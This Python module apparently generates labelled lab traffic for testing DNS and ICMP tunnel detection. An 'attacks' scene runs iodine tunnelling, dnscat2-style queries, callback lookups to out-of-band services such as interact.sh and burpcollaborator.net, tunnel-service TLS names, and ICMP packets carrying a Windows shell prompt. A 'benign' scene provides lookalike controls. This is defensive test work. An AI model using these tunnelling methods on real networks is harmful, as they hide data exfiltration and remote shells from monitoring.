"""DNS tunnelling with the real iodine, a dnscat2-like client, dnsmasq and dig; ICMP with ping; tunnel services by TLS name."""

import struct
import time

from .common import begin
from .lab import net
from .mining import world
from .scenes import scene
from .web import curl

NEEDS = dict(iodined="iodine", ifconfig="net-tools", iodine="iodine", dnsmasq="dnsmasq", dig="dnsutils", openssl="openssl", ping="iputils-ping")
HEX = "0123456789abcdef"


def label(seed, n):
    return "".join(HEX[(seed * 7 + i * i * 5 + i) % 16] for i in range(n))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def echo(host, to, payload, number=1):
    head = struct.pack("!BBHHH", 8, 0, 0, 77, number)
    head = struct.pack("!BBHHH", 8, 0, checksum(head + payload), 77, number)
    s = host.socket(net.AF_INET, net.SOCK_RAW, net.IPPROTO_ICMP)
    s.sendto(head + payload, (to, 0))
    s.close()


@scene("attacks-dns-tunnel", **NEEDS)
def attacks(lab):
    """iodine (real, NULL records), dnscat2 names, long labels, TXT and NXDOMAIN in number, AXFR, call-back names, tunnel services, ICMP tunnels"""
    node, far = lab.host("node", 10), lab.host("far", 98)
    dns, out = world(lab)
    begin(lab)

    def dig(*argv, at=dns):
        node.run("dig", "+tries=1", "+time=1", "+noedns", f"@{at.ip}", *argv)

    far.start("iodined", "-f", "-c", "-P", "inert", "10.99.99.1/24", "t.example.org", port=53, udp=True)
    time.sleep(0.5)
    tunnel = node.start("iodine", "-f", "-P", "inert", "-T", "NULL", "-r", "-m", "200", far.ip, "t.example.org")
    time.sleep(3.5)
    tunnel.terminate()
    tunnel.wait(5)
    dig("-t", "TXT", "dnscat.0f3a01b2c3d4e5f60708090a0b0c0d0e0f")
    # names that belong to nobody here: dnsmasq is told to deny this domain
    for i in range(14):
        dig(f"{label(i, 58)}.{label(i + 3, 40)}.x.tunnel.example")
    dig(f"{label(1, 62)}.{label(2, 62)}.{label(3, 62)}.x.tunnel.example")
    for i in range(34):
        dig("-t", "TXT", f"c{i}.poll.example")
    dig("-t", "AXFR", "+tcp", "cluster.local")
    dig("-t", "SRV", "any.any.svc.cluster.local")
    dig("duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion")
    for name in ("oast.pro", "oast.fun", "interact.sh", "oastify.com", "burpcollaborator.net", "dnslog.cn", "ceye.io"):
        dig(f"c23b2la0kl1krjcrdj10cndmnioyyyyyn.{name}")
    dig("-t", "MX", "a.nowhere.invalid")
    nowhere = lab.host("dns2", 54)
    nowhere.start("dnsmasq", "-k", "-h", "-R", "-u", "root", "--bind-interfaces", "--pid-file=" + lab.path("dnsmasq2.pid"), "--local=/example/", port=53, udp=True)
    for i in range(44):
        dig(f"{label(i, 14)}.example", at=nowhere)
    for name in ("dns.google", "mozilla.cloudflare-dns.com", "tunnel.us.ngrok.com", "region1.v2.argotunnel.com", "abc.trycloudflare.com", "x.serveo.net", "x.localhost.run"):
        curl(node, f"https://{name}/", more=["-k", "--resolve", f"{name}:443:203.0.113.50"])
    node.run("ping", "-c", "10", "-i", "0.05", "-s", "1200", far.ip)
    echo(node, far.ip, b"\xd5\x20\x08\x80" + b"\0" * 24)
    echo(node, far.ip, b"Microsoft Windows [Version 10.0.17763]\r\nC:\\>")


@scene("benign-dns-tunnel", **NEEDS)
def benign(lab):
    """long names of a cloud's load balancer, SPF and DKIM lookups, search-list misses, PTR lookups, ping, ordinary TLS names"""
    node, far = lab.host("node", 10), lab.host("far", 98)
    dns, out = world(lab)
    nowhere = lab.host("dns2", 54)
    nowhere.start("dnsmasq", "-k", "-h", "-R", "-u", "root", "--bind-interfaces", "--pid-file=" + lab.path("dnsmasq2.pid"), "--local=/local/", "--txt-record=iodine.local,VACK is a word", port=53, udp=True)
    begin(lab)

    def dig(*argv, at=dns):
        node.run("dig", "+tries=1", "+time=1", f"@{at.ip}", *argv)

    dig("k8s-shop-frontend-4f2a9c1d7e-1234567890123456.elb.eu-west-1.amazonaws.com")
    for i in range(4):
        dig(f"{label(i, 44)}.{label(i, 20)}.cdn.example.org")
    for name in ("example.org", "_dmarc.example.org", "s1._domainkey.example.org"):
        dig("-t", "TXT", name)
    dig("-t", "TXT", "iodine.local", at=nowhere)
    for name in ("db.shop.svc.cluster.local", "db.svc.cluster.local", "db.cluster.local", "db.local"):
        dig(name, at=nowhere)
    dig("-t", "SRV", "_http._tcp.web.shop.svc.cluster.local")
    dig("-t", "SOA", "+tcp", "cluster.local")
    for name in ("dnscats.example.org", "onions.example.org", "toast.pro", "notinteract.sh", "dnslog.example", "ceye.iot.example", "burp.example.net", "oastify.company.example"):
        dig(name)
    dig("-x", "10.77.0.10")
    for name in ("www.google.com", "www.cloudflare.com", "docs.ngrok.example", "argo.example.com", "local.example", "trycloudflare.example", "localhost.example"):
        curl(node, f"https://{name}/", more=["-k", "--resolve", f"{name}:443:203.0.113.50"])
    node.run("ping", "-c", "10", "-i", "0.05", far.ip)
    node.run("ping", "-c", "3", "-i", "0.05", "-s", "1200", far.ip)
    echo(node, far.ip, b"Microsoft Windows for ever")
